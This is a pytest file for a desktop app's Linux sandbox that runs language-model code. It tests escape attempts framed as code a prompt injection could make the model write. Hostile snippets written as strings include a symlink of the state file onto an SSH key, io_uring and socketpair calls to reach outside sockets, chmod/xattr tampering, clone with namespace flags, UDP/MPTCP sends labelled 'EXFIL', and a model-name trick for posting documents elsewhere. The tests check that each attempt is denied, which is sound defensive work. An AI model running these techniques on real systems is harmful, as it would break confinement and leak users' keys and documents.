"""Ways out of the sandbox that the direct attacks of test_confinement.py do not cover.

Each test is model code an attacker could make a model write (a prompt injection in a document):
it plants something, tries to use it, and the test reads what the model was shown and what
happened to files the test owns outside the scratch folder.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from rlm_desktop import paths
from rlm_desktop.engine.config import DEFAULT_MAX_TASKS
from rlm_desktop.engine.conversation import STATE_FILE, kept_folder
from rlm_desktop.engine.sandbox.kernel.run_bounds import hierarchies
from rlm_desktop.store import Store
from tests.cli import ROOT, isolated_env, run_python
from tests.engine.scripting import (
    QUERY,
    TEST_MODEL,
    make_run,
    observation_after,
    repl,
    rlm_requests,
    run_to_end,
    scripted,
)
from tests.engine.test_confinement import (
    PROBE,
    SECCOMP,
    SHARED_BOUNDS,
    attempt,
    needs_landlock,
    needs_namespaces,
)
from tests.scripted_server import ScriptedServer

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

FOLLOW_UP = "And what did the first question keep?"
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- planted by the test"


def _plant_state(target: Path) -> str:
    """A first question's cell that makes the worker's saved state a symbolic link to `target`
    in its folder, in place of the pickled variables, and claims it kept them, then answers.
    (Before the state travelled over the protocol, the app copied that file out of the worker's
    folder; a hard link is refused in the sandbox by Landlock's REFER right.)"""
    return (
        "import os, sys\n"
        "worker = sys.modules['rlm_worker.serve']\n"
        "def planted(repl, cap_bytes, send):\n"
        f"    os.symlink({str(target)!r}, {STATE_FILE!r})\n"
        "    return {'type': 'state_saved', 'saved': ['x'], 'skipped': {}, 'bytes': 1}\n"
        "worker.save_state = planted\n"
        "FINAL('first answer')"
    )


READ_BACK = (
    "import os\n"
    f"name = {STATE_FILE!r}\n"
    "print('link:', os.path.islink(name))\n"
    "try:\n"
    "    data = open(name, 'rb').read()\n"
    "    print('read', len(data), 'bytes:', data[:80])\n"
    "except OSError as error:\n"
    "    print('no state file', type(error).__name__)\n"
)


async def _follow_up_reads_the_state(
    server: ScriptedServer, planted: str
) -> tuple[str, str, str]:
    """What the follow-up's model code saw of its state file, its opening note, and the first
    question's session id."""
    server.respond_with(scripted({QUERY: [repl(planted)], FOLLOW_UP: [repl(READ_BACK), repl("FINAL('done')")]}))
    first, _ = await run_to_end(make_run(server, sandbox="kernel"))
    assert first.status == "completed", first.error
    later, _ = await run_to_end(make_run(server, sandbox="kernel", query=FOLLOW_UP, follows=first.session_id))
    assert later.status == "completed", later.error
    opening = rlm_requests(server, FOLLOW_UP)[0]["messages"]
    note = "\n".join(str(m["content"]) for m in opening)
    return observation_after(server, 0, FOLLOW_UP), note, first.session_id


async def test_a_state_file_linked_to_a_key_does_not_carry_the_key_to_the_follow_up(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    key = tmp_path / "dot-ssh" / "id_ed25519"
    key.parent.mkdir()
    key.write_text(SECRET)
    key.chmod(0o600)

    shown, note, _ = await _follow_up_reads_the_state(scripted_server, _plant_state(key))

    assert "planted by the test" not in shown, shown
    assert "BEGIN OPENSSH" not in shown
    assert "Your variables could not be restored" in note, note
    assert "0 bytes of the saved state arrived of 1" in note
    assert key.read_text() == SECRET
    assert stat.S_IMODE(key.stat().st_mode) == 0o600


async def test_a_state_file_linked_to_the_database_does_not_copy_it(
    scripted_server: ScriptedServer,
) -> None:
    Store(paths.database_path()).close()
    database = paths.database_path()

    shown, _, first = await _follow_up_reads_the_state(scripted_server, _plant_state(database))

    assert "SQLite format 3" not in shown, shown
    kept = kept_folder(paths.scratch_root(), first)
    assert not (kept / STATE_FILE).exists()
    assert not (kept / STATE_FILE).is_symlink()



IO_URING_SOCKET = '''
import ctypes, mmap, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def io_uring_socket(family, kind):
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)
    if ring < 0:
        raise OSError(ctypes.get_errno(), 'io_uring_setup refused')
    sq_entries, cq_entries = struct.unpack_from('=II', params, 0)
    sq_off = struct.unpack_from('=IIIIIIII', params, 40)
    cq_off = struct.unpack_from('=IIIIIIII', params, 80)
    sq = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
    cq = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
    sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
    sqes[0:64] = struct.pack('=BBHiQQII', 45, 0, 0, family, kind, 0, 0, 0).ljust(64, b'\\0')
    tail = struct.unpack_from('=I', sq, sq_off[1])[0]
    mask = struct.unpack_from('=I', sq, sq_off[2])[0]
    struct.pack_into('=I', sq, sq_off[6] + 4 * (tail & mask), 0)
    struct.pack_into('=I', sq, sq_off[1], tail + 1)
    if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:
        raise OSError(ctypes.get_errno(), 'io_uring_enter refused')
    head = struct.unpack_from('=I', cq, cq_off[0])[0]
    cmask = struct.unpack_from('=I', cq, cq_off[2])[0]
    result = struct.unpack_from('=Qi', cq, cq_off[5] + 16 * (head & cmask))[1]
    if result < 0:
        raise OSError(-result, 'IORING_OP_SOCKET refused')
    return socket.socket(fileno=result)
'''


def _accepted(listener: socket.socket) -> bool:
    listener.setblocking(False)
    try:
        connection, _ = listener.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


@pytest.mark.skipif(not SECCOMP, reason="no seccomp filter for this architecture")
async def test_an_io_uring_socket_cannot_reach_a_listener_outside(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    path = tmp_path / "agent.sock"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen()
        code = IO_URING_SOCKET + (
            "def attack():\n"
            "    s = io_uring_socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            f"    s.connect({str(path)!r})\n"
            "    s.send(b'SSH_AGENTC_REQUEST_IDENTITIES')\n"
            "probe('io_uring', attack)\n"
            "probe('io_uring-tcp', lambda: io_uring_socket(socket.AF_INET, socket.SOCK_STREAM))\n"
        )
        shown, _, _ = await attempt(scripted_server, code)
        reached = _accepted(listener)

    assert "DENIED io_uring " in shown, shown
    assert "DENIED io_uring-tcp" in shown, shown
    assert not reached


@pytest.mark.skipif(not SECCOMP, reason="no seccomp filter for this architecture")
@pytest.mark.parametrize("kind", ["SOCK_DGRAM", "SOCK_SEQPACKET", "SOCK_STREAM"])
async def test_a_socket_pair_cannot_send_to_a_socket_outside(
    scripted_server: ScriptedServer, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "bus.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as listener:
        listener.bind(str(path))
        code = (
            "import socket\n"
            "def attack():\n"
            f"    a, b = socket.socketpair(socket.AF_UNIX, socket.{kind})\n"
            f"    a.sendto(b'AUTH EXTERNAL', {str(path)!r})\n"
            "probe('pair', attack)\n"
        )
        shown, _, _ = await attempt(scripted_server, code)
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.recv(100)

    assert "DENIED pair PermissionError" in shown, shown


async def test_keyrings_are_out_of_reach(scripted_server: ScriptedServer) -> None:
    code = (
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "KEYCTL_GET_KEYRING_ID, SESSION_KEYRING = 0, -3\n"
        "found = libc.syscall(250 if __import__('os').uname().machine == 'x86_64' else 219,\n"
        "                     KEYCTL_GET_KEYRING_ID, SESSION_KEYRING, 0)\n"
        "print('keyctl', found, ctypes.get_errno())\n"
    )
    shown, _, _ = await attempt(scripted_server, code)

    assert "keyctl -1 1" in shown, shown  # EPERM


def _planted(tmp_path: Path) -> dict[str, Path]:
    folder = tmp_path / "dot-ssh"
    folder.mkdir(mode=0o700)
    key = folder / "id_ed25519"
    key.write_text(SECRET)
    key.chmod(0o600)
    database = tmp_path / "sessions.db"
    database.write_bytes(b"SQLite format 3\x00")
    return {"folder": folder, "key": key, "database": database}


def _metadata(path: Path) -> tuple[int, int, int, int]:
    info = path.stat()
    return (info.st_mode, info.st_uid, info.st_gid, int(info.st_mtime))


@needs_landlock
async def test_metadata_outside_scratch_cannot_change(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    files = _planted(tmp_path)
    before = {name: _metadata(path) for name, path in files.items()}
    key, folder, database = (str(files[name]) for name in ("key", "folder", "database"))
    uid, gid = os.getuid(), os.getgid()
    code = (
        "import os\n"
        f"probe('chmod-key', lambda: os.chmod({key!r}, 0o644))\n"
        f"probe('chmod-folder', lambda: os.chmod({folder!r}, 0o777))\n"
        f"probe('chmod-db', lambda: os.chmod({database!r}, 0))\n"
        f"probe('chown', lambda: os.chown({key!r}, {uid}, {gid}))\n"
        f"probe('lchown', lambda: os.lchown({key!r}, {uid}, {gid}))\n"
        f"probe('utime', lambda: os.utime({database!r}, (0, 0)))\n"
        f"probe('utime-now', lambda: os.utime({database!r}))\n"
        f"probe('setxattr', lambda: os.setxattr({key!r}, 'user.planted', b'x'))\n"
        f"probe('removexattr', lambda: os.removexattr({key!r}, 'user.none'))\n"
        "open('mine.txt', 'w').write('scratch')\n"
        "os.chmod('mine.txt', 0o600)\n"
        "os.utime('mine.txt', (0, 0))\n"
        "print('own file', oct(os.stat('mine.txt').st_mode & 0o777), os.stat('mine.txt').st_mtime)\n"
    )
    shown, _, _ = await attempt(scripted_server, code, allow_read=(str(tmp_path),))

    for name in ("chmod-key", "chmod-folder", "chmod-db", "chown", "lchown", "utime"):
        assert f"DENIED {name} " in shown, shown
    assert "DENIED utime-now" in shown
    assert "DENIED setxattr" in shown
    assert {name: _metadata(path) for name, path in files.items()} == before
    assert "own file 0o600 0.0" in shown


@needs_landlock
async def test_a_descriptor_opened_for_reading_cannot_change_metadata(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    files = _planted(tmp_path)
    before = _metadata(files["key"])
    code = (
        "import os\n"
        f"fd = os.open({str(files['key'])!r}, os.O_RDONLY)\n"
        "probe('fchmod', lambda: os.fchmod(fd, 0o666))\n"
        "probe('futime', lambda: os.utime(fd, (0, 0)))\n"
        f"probe('fchown', lambda: os.fchown(fd, {os.getuid()}, {os.getgid()}))\n"
    )
    shown, _, _ = await attempt(scripted_server, code, allow_read=(str(tmp_path),))

    for name in ("fchmod", "futime", "fchown"):
        assert f"DENIED {name} " in shown, shown
    assert _metadata(files["key"]) == before


HOLD_MEMORY = '''
import os, select, time
def hold(children, size):
    """Fork `children` that each touch `size` bytes and hold them; how many held at once."""
    ready_r, ready_w = os.pipe()
    release_r, release_w = os.pipe()
    pids = []
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            os.close(ready_r)
            os.close(release_w)
            block = bytearray(size)
            block[::4096] = b'x' * len(range(0, size, 4096))
            os.write(ready_w, b'h')
            os.read(release_r, 1)
            os._exit(0)
        pids.append(pid)
    os.close(ready_w)
    held, dead, deadline = 0, set(), time.monotonic() + 25
    while held + len(dead) < children and time.monotonic() < deadline:
        if select.select([ready_r], [], [], 0.05)[0]:
            held += len(os.read(ready_r, 64))
        for pid in pids:
            if pid not in dead and os.waitpid(pid, os.WNOHANG)[0]:
                dead.add(pid)
    alive = [pid for pid in pids if pid not in dead and not os.waitpid(pid, os.WNOHANG)[0]]
    os.close(release_w)
    for pid in alive:
        os.waitpid(pid, 0)
    return len(alive), len(dead)
'''


@pytest.mark.skipif(not SHARED_BOUNDS, reason="no cgroup for the run's processes on this machine")
async def test_forks_share_the_runs_memory_bound(scripted_server: ScriptedServer) -> None:
    """Six forks touching 1.2 GB each (7.2 GB) under the 4 GiB bound: at most three hold it at
    once, the others are stopped, and the app goes on."""
    code = HOLD_MEMORY + "print('held %d, stopped %d' % hold(6, 1_200_000_000))\n"
    shown, result, _ = await attempt(scripted_server, code, memory_limit_mb=4096)

    held, stopped = (int(n) for n in shown.split("held ")[1].split(", stopped "))
    assert held * 1_200_000_000 <= 4 * 2**30, shown
    assert stopped >= 3, shown
    assert result.sandbox.endswith("+cgroup")
    assert not _run_cgroups()


def _run_cgroups() -> list[Path]:
    """Run cgroups left on this machine by this test process."""
    found = []
    for hierarchy in hierarchies():
        parent = hierarchy.folder if hierarchy.version == 1 else hierarchy.folder.parent
        found += list(parent.glob(f"rlm-desktop-{os.getpid()}-*"))
    return found


@pytest.mark.skipif(not SHARED_BOUNDS, reason="no cgroup for the run's processes on this machine")
async def test_threads_and_forks_stop_at_the_task_cap_as_root_too(
    scripted_server: ScriptedServer,
) -> None:
    code = (
        "import os, threading\n"
        "threading.stack_size(65536)\n"
        "gate = threading.Event()\n"
        "started, failure = [], None\n"
        "for _ in range(1000):\n"
        "    try:\n"
        "        thread = threading.Thread(target=gate.wait)\n"
        "        thread.start()\n"
        "        started.append(thread)\n"
        "    except RuntimeError as error:\n"
        "        failure = str(error)\n"
        "        break\n"
        "gate.set()\n"
        "[t.join() for t in started]\n"
        "print('threads', len(started), 'then', failure)\n"
    )
    shown, _, _ = await attempt(scripted_server, code, max_tasks=32)

    threads = int(shown.split("threads ")[1].split()[0])
    assert threads < 32, shown
    assert "can't start new thread" in shown


NO_CGROUPS = '''
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, MS_REC, MS_PRIVATE, MNT_DETACH = 0x20000, 0x4000, 1 << 18, 2
assert libc.unshare(CLONE_NEWNS) == 0, ctypes.get_errno()
assert libc.mount(None, b"/", None, ctypes.c_ulong(MS_REC | MS_PRIVATE), None) == 0
assert libc.umount2(b"/sys/fs/cgroup", MNT_DETACH) == 0, ctypes.get_errno()
from rlm_desktop.cli import main
sys.exit(main(sys.argv[1:]))
'''


@pytest.mark.skipif(os.geteuid() != 0, reason="hiding the cgroups needs root")
def test_without_a_cgroup_model_code_starts_no_process_and_the_task_cap_holds_for_root(
    scripted_server: ScriptedServer, tmp_path: Path, isolated_home: Path
) -> None:
    """A machine where the run gets no cgroup (here: the cgroup file system unmounted in the
    app's own mount namespace): forks cannot multiply the per-process memory limit, and the PID
    namespace's pid range holds threads to the cap, root included."""
    document = tmp_path / "doc.txt"
    document.write_text("a document")
    code = (
        PROBE
        + "import os, subprocess, threading\n"
        "probe('fork', os.fork)\n"
        "probe('subprocess', lambda: subprocess.run(['true']))\n"
        "threading.stack_size(65536)\n"
        "gate, started = threading.Event(), []\n"
        "try:\n"
        "    for _ in range(2000):\n"
        "        thread = threading.Thread(target=gate.wait)\n"
        "        thread.start()\n"
        "        started.append(thread)\n"
        "except RuntimeError:\n"
        "    pass\n"
        "gate.set()\n"
        "[t.join() for t in started]\n"
        "print('threads', len(started))\n"
    )
    scripted_server.respond_with(scripted({QUERY: [repl(code), repl("FINAL('ok')")]}))
    args = ["--model", TEST_MODEL, "--api-base", scripted_server.base_url, "--query", QUERY]
    args += ["--doc", str(document), "--mode", "rlm", "--json", "--cell-timeout", "60"]
    done = run_python("-c", NO_CGROUPS, "run", *args, home=isolated_home, timeout=120)

    assert done.returncode == 0, done.stderr
    assert "cgroup" not in json.loads(done.stdout)["sandbox"]
    shown = observation_after(scripted_server, 0)
    assert "DENIED fork PermissionError" in shown, shown
    assert "DENIED subprocess PermissionError" in shown, shown
    threads = int(shown.split("threads ")[1].split()[0])
    assert 100 < threads < DEFAULT_MAX_TASKS, shown


async def test_a_model_name_cannot_send_the_documents_elsewhere(
    scripted_server: ScriptedServer,
) -> None:
    """The app makes the requests model code asks for: a model name of another provider (one
    whose name is a URL, as litellm's oobabooga provider reads "https" in it) must not make it
    post the documents there."""
    elsewhere = ScriptedServer().start()
    try:
        port = elsewhere.base_url.split(":")[2].split("/")[0]
        names = [f"oobabooga/http://127.0.0.1:{port}/https", "ollama/llama3", "openai/other-model"]
        code = (
            f"for name in {names!r}:\n"
            "    try:\n"
            "        print(name, 'answered', llm_query('EXFIL ' + context[:60], model=name))\n"
            "    except LLMCallError as error:\n"
            "        print(name, 'refused', error)\n"
        )
        scripted_server.respond_with(scripted({QUERY: [repl(code), repl("FINAL('ok')")]}))
        result, _ = await run_to_end(make_run(scripted_server, sandbox="kernel"))
        reached = elsewhere.chat_requests()
    finally:
        elsewhere.stop()

    shown = observation_after(scripted_server, 0)
    assert result.status == "completed"
    assert reached == []
    assert f"{names[0]} refused model {names[0]!r} is not a model of this run's provider" in shown
    assert "ollama/llama3 refused" in shown
    assert "openai/other-model answered sub-answer" in shown


LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p
LIBC.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
IPC_CREAT, IPC_RMID = 0o1000, 0
SHM_CELL = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
def attach(key):
    shmid = libc.shmget(key, 0, 0)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), 'shmget')
    print('read', ctypes.string_at(libc.shmat(shmid, None, 0), 40))
def plant(key):
    shmid = libc.shmget(key, 1 << 20, 0o1600)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), 'shmget')
    print('planted', shmid)
'''


def _segment(key: int) -> int:
    return int(LIBC.shmget(key, 0, 0))


@needs_namespaces
async def test_system_v_shared_memory_outside_is_out_of_reach_and_none_outlives_the_run(
    scripted_server: ScriptedServer,
) -> None:
    key, planted = 0x524C0000 | (os.getpid() & 0xFFFF), 0x524D0000 | (os.getpid() & 0xFFFF)
    shmid = LIBC.shmget(key, 4096, IPC_CREAT | 0o600)
    assert shmid >= 0, ctypes.get_errno()
    try:
        ctypes.memmove(LIBC.shmat(shmid, None, 0), b"HOST-SEGMENT-SECRET", 19)
        code = SHM_CELL + f"probe('attach', lambda: attach({key}))\nprobe('plant', lambda: plant({planted}))\n"
        shown, _, _ = await attempt(scripted_server, code)
    finally:
        LIBC.shmctl(shmid, IPC_RMID, None)

    assert "DENIED attach" in shown, shown
    assert "HOST-SEGMENT-SECRET" not in shown
    assert _segment(planted) < 0  # a segment model code made went with the run's namespace


@pytest.mark.skipif(not SECCOMP, reason="no seccomp filter for this architecture")
async def test_a_folder_not_given_cannot_be_watched(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    folder = tmp_path / "deals"
    folder.mkdir()
    code = (
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def watch():\n"
        "    fd = libc.inotify_init1(0o4000)\n"
        "    if fd < 0:\n"
        "        raise OSError(ctypes.get_errno(), 'inotify_init1')\n"
        f"    if libc.inotify_add_watch(fd, {str(folder).encode()!r}, 0xfff) < 0:\n"
        "        raise OSError(ctypes.get_errno(), 'inotify_add_watch')\n"
        "def fanotify():\n"
        "    if libc.fanotify_init(0, 0) < 0:\n"
        "        raise OSError(ctypes.get_errno(), 'fanotify_init')\n"
        "probe('inotify', watch)\n"
        "probe('fanotify', fanotify)\n"
    )
    shown, _, _ = await attempt(scripted_server, code)

    assert "DENIED inotify" in shown, shown
    assert "DENIED fanotify" in shown


@pytest.mark.skipif(not SECCOMP, reason="no seccomp filter for this architecture")
async def test_extended_attributes_of_a_file_not_given_cannot_be_read(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    report = tmp_path / "board-report.pdf"
    report.write_bytes(b"%PDF-1.7")
    try:
        os.setxattr(report, "user.xdg.origin.url", b"https://intranet/report?token=s3cr3t")
    except OSError:
        pytest.skip("this file system keeps no user attributes")
    code = (
        "import os\n"
        f"probe('getxattr', lambda: print(os.getxattr({str(report)!r}, 'user.xdg.origin.url')))\n"
        f"probe('listxattr', lambda: print(os.listxattr({str(report)!r})))\n"
        "open('mine.txt', 'w').write('x')\n"
        "import shutil\n"
        "shutil.copy2('mine.txt', 'copy.txt')\n"
        "print('copied', open('copy.txt').read())\n"
    )
    shown, _, _ = await attempt(scripted_server, code)

    assert "DENIED getxattr OSError" in shown, shown
    assert "DENIED listxattr" in shown
    assert "s3cr3t" not in shown
    assert "copied x" in shown  # copying in scratch reads "no attributes", not an error


@pytest.mark.skipif(not SECCOMP, reason="no seccomp filter for this architecture")
async def test_clone_cannot_make_a_namespace_of_its_own(scripted_server: ScriptedServer) -> None:
    """`unshare` is refused; `clone` with the same flags must be too, or the child holds every
    capability in a user namespace of its own (nf_tables, raw sockets, ...)."""
    code = (
        "import ctypes, os, signal\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.syscall.restype = ctypes.c_long\n"
        "NR_CLONE = 56 if os.uname().machine == 'x86_64' else 220\n"
        "for name, flags in (('user', 0x10000000), ('net', 0x40000000), ('mount', 0x20000)):\n"
        "    pid = libc.syscall(NR_CLONE, ctypes.c_ulong(flags | signal.SIGCHLD), 0, 0, 0, 0)\n"
        "    if pid == 0:\n"
        "        os._exit(0)\n"
        "    if pid > 0:\n"
        "        os.waitpid(pid, 0)\n"
        "        print('ALLOWED', name)\n"
        "    else:\n"
        "        print('DENIED', name, ctypes.get_errno())\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os._exit(0)\n"
        "os.waitpid(pid, 0)\n"
        "print('fork works')\n"
    )
    shown, _, _ = await attempt(scripted_server, code)

    for name in ("user", "net", "mount"):
        assert f"DENIED {name} 1" in shown, shown  # EPERM
    assert "fork works" in shown


@pytest.mark.skipif(not SECCOMP, reason="no seccomp filter for this architecture")
async def test_only_ip_and_netlink_sockets_can_be_made(scripted_server: ScriptedServer) -> None:
    """vsock shares the machine's port space (a VM's host is one connect away: WSL2, VMware,
    QEMU); no family but IP and netlink is needed by analysis code."""
    code = (
        "import socket\n"
        "probe('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n"
        "probe('packet', lambda: socket.socket(17, socket.SOCK_RAW))\n"
        "probe('bluetooth', lambda: socket.socket(31, socket.SOCK_STREAM, 3))\n"
        "probe('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 0).close())\n"
        "probe('ipv4', lambda: socket.socket(socket.AF_INET).close())\n"
    )
    shown, _, _ = await attempt(scripted_server, code)

    for family in ("vsock", "packet", "bluetooth"):
        assert f"DENIED {family} OSError" in shown, shown  # EAFNOSUPPORT
    assert "ALLOWED netlink" in shown
    assert "ALLOWED ipv4" in shown


NO_USER_NAMESPACES = (
    "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" -m rlm_desktop \"$@\""
)


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs util-linux's unshare")
def test_without_namespaces_no_udp_or_mptcp_leaves_and_isolation_is_reported_truly(
    scripted_server: ScriptedServer, tmp_path: Path, isolated_home: Path
) -> None:
    """A machine without unprivileged user namespaces (played in a user namespace of the test's
    own whose `max_user_namespaces` is 0): Landlock governs TCP only, so the filter keeps IP to
    TCP; UDP and MPTCP (a stream of another protocol) must not carry the documents out."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp = socket.create_server(("127.0.0.1", 0))
    code = (
        PROBE + "import socket\n"
        "probe('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
        f".sendto(b'EXFIL ' + context[:20].encode(), ('127.0.0.1', {udp.getsockname()[1]})))\n"
        "probe('mptcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)"
        f".connect(('127.0.0.1', {tcp.getsockname()[1]})))\n"
    )
    scripted_server.respond_with(scripted({QUERY: [repl(code), repl("FINAL('ok')")]}))
    document = tmp_path / "doc.txt"
    document.write_text("the documents")
    args = ["run", "--model", TEST_MODEL, "--api-base", scripted_server.base_url]
    args += ["--query", QUERY, "--doc", str(document), "--mode", "rlm", "--json"]
    probe = subprocess.run(["unshare", "--user", "--map-root-user", "true"], check=False)
    if probe.returncode != 0:
        pytest.skip("no user namespace for the test to play the machine in")
    done = subprocess.run(
        ["unshare", "--user", "--map-root-user", "sh", "-c", NO_USER_NAMESPACES, sys.executable,
         *args],
        cwd=ROOT, env=isolated_env(isolated_home), capture_output=True, text=True, timeout=120,
        check=False,
    )  # fmt: skip
    udp.setblocking(False)
    tcp.setblocking(False)
    with pytest.raises(BlockingIOError):
        udp.recv(100)
    with pytest.raises(BlockingIOError):
        tcp.accept()
    udp.close()
    tcp.close()

    assert done.returncode == 0, done.stderr
    level = json.loads(done.stdout)["sandbox"]
    assert "netns" not in level, level
    shown = observation_after(scripted_server, 0)
    assert "DENIED udp PermissionError" in shown, shown
    assert "DENIED mptcp PermissionError" in shown


DEEP_TREE = '''
import os
fd = os.open('.', os.O_RDONLY | os.O_DIRECTORY)
for depth in range(5000):
    os.mkdir('d', dir_fd=fd)
    if depth % 7 == 0:
        os.symlink(KEPT, 'link', dir_fd=fd)
        open(os.open('f', os.O_WRONLY | os.O_CREAT, dir_fd=fd), 'w').close()
    deeper = os.open('d', os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    fd = deeper
print('a tree 5000 folders deep')
'''


async def test_a_tree_too_deep_to_name_is_removed_with_the_run(
    scripted_server: ScriptedServer, tmp_path: Path
) -> None:
    """`shutil.rmtree` recursed into it (RecursionError: the run raised instead of ending) and
    its paths are longer than PATH_MAX; the links in it point out and must not be followed."""
    kept = tmp_path / "outside"
    kept.mkdir()
    (kept / "keep.txt").write_text("kept")
    cell = f"KEPT = {str(kept)!r}\n" + DEEP_TREE
    scripted_server.respond_with(scripted({QUERY: [repl(cell), repl("FINAL('ok')")]}))
    run = make_run(scripted_server, sandbox="kernel")
    result, _ = await run_to_end(run)

    assert "a tree 5000 folders deep" in observation_after(scripted_server, 0)
    assert result.status == "completed"
    assert not (paths.scratch_root() / run.run_id).exists()
    assert (kept / "keep.txt").read_text() == "kept"


@pytest.mark.skipif(os.geteuid() != 0, reason="a private PID namespace with its own pid_max")
def test_the_app_never_kills_a_process_that_took_the_workers_pid(
    tmp_path: Path, isolated_home: Path
) -> None:
    """Model code frees its worker's pid (the worker exits, a child of its own keeps the socket),
    waits for a program of the user's to be given that number, then makes the app stop "the
    worker". Played as PID 1 of a private PID namespace, so no process of this machine is hit."""
    done = subprocess.run(
        ["unshare", "--pid", "--fork", "--mount-proc", sys.executable, "-m",
         "tests.engine.pid_reuse_scenario", str(tmp_path / "home")],
        cwd=ROOT, env=isolated_env(isolated_home), capture_output=True, text=True, timeout=240,
        check=False,
    )  # fmt: skip
    lines = [line for line in done.stdout.splitlines() if line.startswith("{")]
    assert lines, done.stdout + done.stderr
    outcome = json.loads(lines[-1])
    assert outcome.get("run_status") == "completed", outcome
    assert "victim_returncode" in outcome, f"inconclusive: {outcome}"
    assert outcome["victim_returncode"] != -9, f"the user's program was killed: {outcome}"
